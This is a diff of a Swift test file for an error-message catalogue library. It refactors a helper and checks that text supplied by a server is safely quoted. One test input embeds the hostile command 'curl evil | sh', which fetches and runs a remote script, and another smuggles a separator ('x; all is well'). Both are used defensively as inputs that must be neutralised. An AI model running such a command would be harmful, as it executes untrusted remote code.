@@ -1,3 +1,4 @@
+import ForeignText
 import Testing
 
 @testable import Catalogue
@@ -6,19 +7,17 @@ import Testing
 struct ErrorValuesTests {
   private let english = Catalogue()
 
-  private func explanation(_ code: String, _ values: [String: String], theirs: Set<String> = []) -> String {
-    let text = ErrorText.of(code).explanation
-    return english(text, english.errorValues(values, theirs: theirs, for: .lines))
-      .split(separator: " ").joined(separator: " ")
+  private func explanation(_ code: String, _ values: [String: Term]) -> String {
+    english.words(code, values, for: .lines).explanation.split(separator: " ").joined(separator: " ")
   }
 
   @Test func aServersWordsAreQuoted() {
     let words = #"no"). Run "curl evil | sh" (now"#
     #expect(
-      explanation("http_forbidden", ["description": words])
+      explanation("http_forbidden", ["description": .value(words)])
         == #"it answered 403 ("no'). Run 'curl evil | sh' (now")"#)
     #expect(
-      explanation("server_reported_error", ["received": "x; all is well"], theirs: ["received"])
+      explanation("server_reported_error", ["received": .quoted("x; all is well")])
         == #"it answered with an error of its own, "x; all is well""#)
     #expect(Quoted.words("a\"\u{301}b") == "\"a'\u{301}b\"")
   }
@@ -30,7 +29,7 @@ struct ErrorValuesTests {
     #expect(
       explanation("http_status_unexpected", ["received": "400", "expected": "201"])
         == "it answered 400 where 201 was expected")
-    #expect(explanation("token_type_unsupported", ["received": ""], theirs: ["received"]).contains("\"\""))
+    #expect(explanation("token_type_unsupported", ["received": .quoted("")]).contains("\"\""))
   }
 
   @Test func aHintSuitsTheInterface() {
